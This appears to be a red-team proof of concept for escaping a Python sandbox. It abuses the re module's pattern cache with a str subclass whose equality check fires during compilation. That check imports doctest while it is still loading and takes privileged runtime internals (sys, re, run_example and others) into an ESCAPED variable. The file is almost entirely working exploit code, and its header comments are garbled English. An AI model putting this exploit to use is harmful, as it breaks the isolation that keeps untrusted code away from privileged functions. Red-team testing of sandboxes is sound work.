# technique: while a module of the library that is guest code runs, it looks for its patterns in re's cache, and compares
# keys of the guest's there; who imports the module again meanwhile got the one that runs, with the functions lent to it:
# red team of the merged tree
# goal: functions of the runtime's that only the library is given
# impact: high
import re

got = []


class SaysEqual(type):
    def __eq__(cls, other):
        return True

    def __hash__(cls):
        return hash(str)


class Key(str, metaclass=SaysEqual):
    def __eq__(self, other):
        if not got:
            got.append('asked')
            import doctest
            got.append(doctest)
            for name in ('run_example', 'main_names', 'docstring_line', 'sys', 're', '_flags'):
                if hasattr(doctest, name):
                    got.append(getattr(doctest, name))
        return str.__eq__(self, other)

    __hash__ = str.__hash__


pattern = r'''
        ^(?P<hdr> Traceback\ \(
            (?: most\ recent\ call\ last
            |   innermost\ last
            ) \) :
        )
        \s* $
        (?P<stack> .*?)
        ^ (?P<msg> \w+ .*)
        '''
re.compile(Key(pattern), re.VERBOSE | re.MULTILINE | re.DOTALL)
import doctest

if len(got) > 2:
    ESCAPED = got
for module in got[1:2]:
    for name in ('run_example', 'main_names', 'docstring_line', 'sys', 're', '_flags'):
        if hasattr(module, name):
            ESCAPED = getattr(module, name)
